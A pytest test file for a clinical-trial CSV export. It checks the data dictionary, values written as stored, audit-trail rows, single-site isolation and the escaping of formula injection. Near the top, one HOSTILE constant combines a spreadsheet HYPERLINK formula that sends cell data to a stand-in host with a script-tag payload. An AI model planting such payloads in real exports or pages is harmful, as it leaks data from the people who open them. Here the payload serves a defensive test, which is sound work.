"""CSV datasets and the data dictionary (issue 15 §2): values as stored, every column in the
dictionary and back, formula injection made inert, one site's export holds only that site."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest

from crfs import services as crf_services
from exports.csv_export import DICTIONARY_COLUMNS, cell, escape_cell, write_csv_zip
from exports.metadata import FLOAT, INTEGER, TEXT, Column, catalogue
from safety import services as safety_services
from subjects.models import Subject, Visit
from tests.dosing.conftest import frozen_clock, treated  # noqa: F401
from tests.factories import make_subject
from tests.safety.conftest import _ctcae, term  # noqa: F401

D = dt.date
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script>'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),  # not at the start: inert already
        ("1-2", "1-2"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_a_formula_start_gets_an_apostrophe(text, expected):
    assert escape_cell(text) == expected


def test_numbers_are_never_escaped_text_always_is():
    assert cell(Column("x", "x", INTEGER, ""), -5) == "-5"
    assert cell(Column("x", "x", FLOAT, ""), Decimal("-1.50")) == "-1.50"
    assert cell(Column("x", "x", TEXT, ""), "-5") == "'-5"


def read_zip(data: bytes) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        out = {}
        for name in zf.namelist():
            text = zf.read(name).decode("utf-8")
            out[name] = list(csv.reader(io.StringIO(text))) if name.endswith(".csv") else text
        return out


def export(subject_ids, scope="test") -> dict:
    buf = io.BytesIO()
    write_csv_zip(buf, subject_ids=subject_ids, scope=scope, by="dm")
    return read_zip(buf.getvalue())


def rows_of(files, key) -> list[dict]:
    header, *rows = files[f"{key}.csv"]
    return [dict(zip(header, r, strict=True)) for r in rows]


VITALS = {
    "assessed_on": D(2026, 1, 5),
    "systolic": 128,
    "diastolic": 82,
    "heart_rate": 76,
    "temperature": Decimal("36.8"),
    "weight": Decimal("72.5"),
    "height": None,
    "not_done_reason": "",
}


@pytest.fixture
def study(treated, coordinator_a, site_b, coordinator_b):  # noqa: F811
    c1d1 = Visit.objects.get(subject=treated, code="C1D1")
    crf_services.save_crf(visit=c1d1, form_key="vital_signs", by=coordinator_a, values=VITALS)
    ae = safety_services.record_ae(
        subject=treated,
        by=coordinator_a,
        term=term("Hypertension"),
        grade=2,
        onset_date=D(2026, 2, 20),
        outcome="not_recovered",
        ongoing=True,
        treatment_given=HOSTILE,
    )
    other = make_subject(site_b, coordinator_b, initials="LXM")
    return {"subject": treated, "ae": ae, "other": other}


def test_the_zip_holds_every_dataset_the_dictionary_and_a_readme(study):
    files = export([study["subject"].pk])
    names = set(files)
    assert {f"{d.key}.csv" for d in catalogue()} <= names
    assert {"data_dictionary.csv", "README.txt"} <= names
    assert "vital_signs.csv: 1" in files["README.txt"]
    assert "adverse_events.csv: 1" in files["README.txt"]


def test_every_column_is_in_the_dictionary_and_every_variable_in_its_file(study):
    files = export([study["subject"].pk])
    header, *entries = files["data_dictionary.csv"]
    assert tuple(header) == DICTIONARY_COLUMNS
    described: dict[str, list[str]] = {}
    for row in entries:
        described.setdefault(row[0], []).append(row[1])
    for d in catalogue():
        assert files[f"{d.key}.csv"][0] == described[d.key], d.key
    assert set(described) == {d.key for d in catalogue()}


def test_the_dictionary_gives_type_unit_code_list_and_derivation(study):
    files = export([study["subject"].pk])
    entries = {
        (r[0], r[1]): dict(zip(DICTIONARY_COLUMNS, r, strict=True))
        for r in files["data_dictionary.csv"][1:]
    }
    systolic = entries[("vital_signs", "systolic")]
    assert (systolic["type"], systolic["unit"]) == ("integer", "mm Hg")
    assert systolic["crf"] == "Vital signs"
    assert "CTCAE v4.03" in entries[("vital_signs", "hypertension_grade")]["derivation"]
    overall = entries[("timepoints", "overall_response")]
    assert "PD=" in overall["allowed_values"] and "RECIST 1.1" in overall["derivation"]
    assert entries[("lab_values", "grade")]["derivation"].startswith("CTCAE grade")


def test_values_are_written_as_stored_with_derived_grades(study):
    files = export([study["subject"].pk])
    (vs,) = rows_of(files, "vital_signs")
    subject = study["subject"]
    assert (vs["site"], vs["subject"], vs["visit"]) == ("GZ01", subject.screening_number, "C1D1")
    assert (vs["systolic"], vs["diastolic"], vs["weight"], vs["temperature"]) == (
        "128",
        "82",
        "72.5",
        "36.8",
    )
    # 128/82 mm Hg: SBP 120-139 or DBP 80-89 is hypertension grade 1 (CTCAE v4.03)
    assert vs["hypertension_grade"] == "1" and vs["assessed_on"] == "2026-01-05"
    (ae,) = rows_of(files, "adverse_events")
    assert (ae["term"], ae["onset_date"], ae["ongoing"]) == ("Hypertension", "2026-02-20", "true")
    (grade,) = rows_of(files, "ae_grade_history")
    assert (grade["ae_id"], grade["grade"]) == (str(study["ae"].pk), "2")


def test_hostile_free_text_is_inert(study):
    files = export([study["subject"].pk])
    (ae,) = rows_of(files, "adverse_events")
    assert ae["treatment_given"] == "'" + HOSTILE
    audit = rows_of(files, "audit_trail")
    hostile = [r for r in audit if r["field"] == "treatment_given"]
    assert hostile and all(r["new_value"].startswith("'=") for r in hostile)


def test_one_sites_export_holds_no_other_site(study):
    ids = list(Subject.objects.filter(site__code="GZ01").values_list("pk", flat=True))
    files = export(ids)
    other = study["other"].screening_number
    for name, content in files.items():
        if name.endswith(".csv") and name != "data_dictionary.csv":
            assert all(other not in row for row in content), name
            assert all(r[0] in ("site", "GZ01") for r in content), name


def test_the_audit_trail_is_long_format_with_old_and_new_values(study, coordinator_a):
    vs = study["subject"]
    row = crf_services.save_crf(
        visit=Visit.objects.get(subject=vs, code="C1D1"),
        form_key="vital_signs",
        by=coordinator_a,
        values=VITALS | {"systolic": 142},
        expected_version=1,
        reason="transcription error",
    )
    files = export([vs.pk])
    changes = [
        r
        for r in rows_of(files, "audit_trail")
        if r["table"] == "crfs_vitalsigns"
        and r["record_id"] == str(row.pk)
        and r["field"] == "systolic"
    ]
    assert [(c["action"], c["old_value"], c["new_value"]) for c in changes] == [
        ("INSERT", "", "128"),
        ("UPDATE", "128", "142"),
    ]
    assert changes[1]["reason"] == "transcription error" and changes[1]["user"] == "coord_a"


def test_the_database_writes_every_cell_as_the_python_rendering_would(study):
    """The CSV files of table datasets come from COPY; the ODM and PDFs render values in
    Python (``value_text``): the two agree on every cell of every file."""
    ids = [study["subject"].pk]
    files = export(ids)
    compared = 0
    for d in catalogue():
        if d.select(ids) is None:
            continue
        expected = [
            [cell(c, v) for c, v in zip(d.columns, row, strict=True)] for row in d.rows(ids)
        ]
        assert files[f"{d.key}.csv"][1:] == expected, d.key
        compared += len(expected)
    assert compared > 100  # visits, screening, vital signs, AE, audit rows...
